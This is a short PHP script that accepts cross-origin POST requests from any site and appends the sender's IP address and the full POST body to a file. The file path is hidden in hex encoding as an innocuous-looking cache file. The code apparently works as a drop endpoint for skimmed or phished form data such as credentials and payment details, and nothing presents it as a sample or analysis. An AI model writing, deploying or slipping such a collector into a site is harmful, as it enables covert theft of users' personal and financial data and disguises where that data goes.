<?php
header('Access-Control-Allow-Origin: *');
$ip = isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];
$f = fopen(pack('H*', '2f746d702f6361636865'), 'a');
fwrite($f, $ip . '|' . json_encode($_POST) . "\n");
fclose($f);
